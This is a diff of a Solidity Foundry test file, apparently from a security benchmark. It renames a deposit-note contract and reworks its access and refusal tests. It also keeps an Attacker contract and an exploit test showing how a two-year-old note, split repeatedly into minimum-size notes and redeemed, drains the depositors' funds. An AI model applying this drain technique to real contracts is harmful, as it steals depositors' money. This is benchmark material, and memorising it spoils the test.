@@ -1,7 +1,7 @@
 // SPDX-License-Identifier: MIT
 pragma solidity 0.8.19;
 
-import "./GranaryNotes.sol";
+import "./DepositNotes.sol";
 
 // assay-canary-6b9a2520-f887-4e35-b040-2a807132563f
 
@@ -9,40 +9,44 @@ interface Vm {
     function deal(address who, uint256 amount) external;
     function warp(uint256 time) external;
     function prank(address who) external;
+    function startPrank(address who) external;
+    function stopPrank() external;
+    function expectRevert() external;
     function expectRevert(bytes4 reason) external;
+    function expectRevert(bytes calldata reason) external;
 }
 
-/// Holds one note for two years, then splits it into crumbs.
+/// Holds one note for two years, then splits it into small ones.
 contract Attacker {
-    GranaryNotes internal notes;
-    uint256 internal id;
+    DepositNotes internal notes;
+    uint256 internal n;
 
-    constructor(GranaryNotes notes_) {
+    constructor(DepositNotes notes_) {
         notes = notes_;
     }
 
     receive() external payable {}
 
-    function lend() external {
-        id = notes.lend{value: 12 ether}();
+    function open() external {
+        n = notes.open{value: 12 ether}();
     }
 
     function run() external {
         for (uint256 i = 0; i < 20; ++i) {
-            uint256 crumb = notes.split(id, 0.05 ether);
-            if (address(notes).balance < notes.worth(crumb)) break;
-            notes.repay(crumb);
+            uint256 m = notes.split(n, 0.05 ether);
+            if (address(notes).balance < notes.worth(m)) break;
+            notes.redeem(m);
         }
     }
 }
 
 contract Proof {
     Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
-    address internal constant GRETE = address(0x96);
-    address internal constant HANS = address(0x97);
+    address internal constant ANA = address(0x96);
+    address internal constant BEN = address(0x97);
 
-    GranaryNotes internal notes;
-    Attacker internal sparrow;
+    DepositNotes internal notes;
+    Attacker internal mallory;
     uint256 internal first;
     uint256 internal second;
 
@@ -50,51 +54,45 @@ contract Proof {
 
     function setUp() public {
         vm.warp(1_700_000_000);
-        notes = new GranaryNotes(800);
+        notes = new DepositNotes(800);
         vm.deal(address(this), 20 ether);
-        vm.deal(GRETE, 10 ether);
-        vm.deal(HANS, 10 ether);
-        vm.prank(GRETE);
-        first = notes.lend{value: 10 ether}();
-        vm.prank(HANS);
-        second = notes.lend{value: 6 ether}();
+        vm.deal(ANA, 10 ether);
+        vm.deal(BEN, 10 ether);
+        vm.prank(ANA);
+        first = notes.open{value: 10 ether}();
+        vm.prank(BEN);
+        second = notes.open{value: 6 ether}();
         payable(address(notes)).transfer(5 ether);
-        sparrow = new Attacker(notes);
-        vm.deal(address(sparrow), 12 ether);
+        mallory = new Attacker(notes);
+        vm.deal(address(mallory), 12 ether);
     }
 
     function test_Regular() public {
         vm.warp(block.timestamp + 365 days);
         require(notes.worth(first) == 10.8 ether, "a year's interest");
-        vm.prank(GRETE);
-        notes.assign(first, HANS);
-        vm.prank(GRETE);
-        require(!_try(0, abi.encodeCall(notes.repay, (first))), "assigned");
-        vm.prank(HANS);
-        notes.topUp{value: 2 ether}(first);
-        require(notes.worth(first) == 12.8 ether, "topped up");
-        vm.prank(HANS);
-        require(!_try(0, abi.encodeCall(notes.split, (first, 0.01 ether))), "too small");
-        vm.prank(HANS);
+        vm.prank(ANA);
+        notes.assign(first, BEN);
+        vm.prank(BEN);
+        notes.add{value: 2 ether}(first);
+        require(notes.worth(first) == 12.8 ether, "added");
+        vm.prank(BEN);
         uint256 half = notes.split(first, 6 ether);
         require(notes.worth(half) == 6.4 ether && notes.worth(first) == 6.4 ether, "two halves");
-        vm.prank(HANS);
-        notes.repay(half);
-        require(HANS.balance == 8.4 ether && notes.facesOut() == 12 ether, "repaid");
-        vm.prank(HANS);
-        require(!_try(0, abi.encodeCall(notes.repay, (half))), "repaid twice");
+        vm.prank(BEN);
+        notes.redeem(half);
+        require(BEN.balance == 8.4 ether && notes.total() == 12 ether, "redeemed");
         notes.setClosed(true);
-        vm.prank(HANS);
-        require(!_try(1 ether, abi.encodeCall(notes.lend, ())), "closed");
-        notes.takeSpare(1 ether);
-        require(!_try(0, abi.encodeCall(notes.takeSpare, (5 ether))), "not spare");
+        notes.sweep(1 ether);
+        require(address(notes).balance == 15.6 ether, "swept");
+        notes.transferOwnership(ANA);
+        vm.startPrank(ANA);
+        notes.acceptOwnership();
+        notes.renounceOwnership();
+        vm.stopPrank();
+        require(notes.owner() == address(0), "renounced");
     }
 
-    function _try(uint256 value, bytes memory data) private returns (bool ok) {
-        (ok, ) = address(notes).call{value: value}(data);
-    }
-
-    /// What the two savers can get out.
+    /// What the two depositors can get out.
     function recoverable() public view returns (uint256) {
         uint256 due = 16 ether;
         return address(notes).balance < due ? address(notes).balance : due;
@@ -108,47 +106,83 @@ contract Proof {
         vm.expectRevert(why);
     }
 
-    /// A note is its holder's, the rest the granary's.
-    function test_RefusesStrangers() public {
-        vm.deal(GRETE, 5 ether);
-        vm.prank(GRETE);
-        (bool ok, ) = address(notes).call{value: 1}("");
-        require(!ok, "the granary pays in");
-        refuses(GRETE, GranaryNotes.GranaryOnly.selector);
-        notes.setClosed(true);
-        refuses(GRETE, GranaryNotes.GranaryOnly.selector);
-        notes.takeSpare(0);
-        refuses(GRETE, GranaryNotes.HolderOnly.selector);
-        notes.topUp{value: 1 ether}(second);
-        refuses(GRETE, GranaryNotes.HolderOnly.selector);
-        notes.assign(second, GRETE);
-        refuses(GRETE, GranaryNotes.HolderOnly.selector);
-        notes.split(second, 1 ether);
+    function foreign() internal {
+        vm.prank(ANA);
+        vm.expectRevert(bytes("Ownable: caller is not the owner"));
     }
 
-    /// Crumbs, closed books, and who takes no ether.
-    function test_RefusesNotes() public {
-        refuses(GRETE, GranaryNotes.FaceTooSmall.selector);
-        notes.split(first, 9.96 ether);
+    /// A note is its holder's, the rest the owner's.
+    function test_RefusesStrangers() public {
+        vm.deal(ANA, 5 ether);
+        vm.prank(ANA);
+        (bool ok, ) = address(notes).call{value: 1}("");
+        require(!ok, "the owner pays in");
+        foreign();
         notes.setClosed(true);
-        vm.deal(GRETE, 1 ether);
-        refuses(GRETE, GranaryNotes.NotLending.selector);
-        notes.topUp{value: 1 ether}(first);
-        vm.prank(GRETE);
+        foreign();
+        notes.sweep(0);
+        foreign();
+        notes.transferOwnership(ANA);
+        foreign();
+        notes.renounceOwnership();
+        vm.prank(ANA);
+        vm.expectRevert(bytes("Ownable2Step: caller is not the new owner"));
+        notes.acceptOwnership();
+        refuses(ANA, DepositNotes.NotHolder.selector);
+        notes.add{value: 1 ether}(second);
+        refuses(ANA, DepositNotes.NotHolder.selector);
+        notes.assign(second, ANA);
+        refuses(ANA, DepositNotes.NotHolder.selector);
+        notes.split(second, 1 ether);
+        refuses(ANA, DepositNotes.NotHolder.selector);
+        notes.redeem(second);
+    }
+
+    /// Notes that would be too small, closed books, nobody, and who takes no ether.
+    function test_RefusesNotes() public {
+        refuses(ANA, DepositNotes.TooSmall.selector);
+        notes.split(first, 9.96 ether);
+        refuses(ANA, DepositNotes.TooSmall.selector);
+        notes.split(first, 0.05 ether - 1);
+        refuses(ANA, DepositNotes.NoHolder.selector);
+        notes.assign(first, address(0));
+        notes.setClosed(true);
+        vm.deal(ANA, 1 ether);
+        refuses(ANA, DepositNotes.Closed.selector);
+        notes.add{value: 1 ether}(first);
+        refuses(ANA, DepositNotes.Closed.selector);
+        notes.open{value: 1 ether}();
+        notes.setClosed(false);
+        refuses(ANA, DepositNotes.TooSmall.selector);
+        notes.open{value: 0.05 ether - 1}();
+        vm.prank(ANA);
         notes.assign(first, address(notes));
-        refuses(address(notes), GranaryNotes.RepaymentRefused.selector);
-        notes.repay(first);
+        vm.prank(address(notes));
+        vm.expectRevert(bytes("Address: unable to send value, recipient may have reverted"));
+        notes.redeem(first);
+        vm.prank(BEN);
+        notes.redeem(second);
+        refuses(BEN, DepositNotes.NotHolder.selector);
+        notes.redeem(second);
+    }
+
+    function test_RefusesOwners() public {
+        vm.expectRevert(DepositNotes.LowSurplus.selector);
+        notes.sweep(3.72 ether + 1);
+        notes.sweep(3.72 ether);
+        vm.expectRevert(DepositNotes.BadRate.selector);
+        new DepositNotes(2_001);
     }
 
     function exploit() public {
-        sparrow.lend();
+        mallory.open();
         vm.warp(block.timestamp + 730 days);
-        sparrow.run();
+        mallory.run();
     }
 
     function test_Exploit() public {
         exploit();
-        require(recoverable() < 2 ether && address(sparrow).balance > 28 ether, "savers can be repaid");
+        require(recoverable() < 2 ether && address(mallory).balance > 28 ether, "depositors can be repaid");
     }
 
     function target() public view returns (address) {
@@ -156,6 +190,6 @@ contract Proof {
     }
 
     function attacker() public view returns (address) {
-        return address(sparrow);
+        return address(mallory);
     }
 }
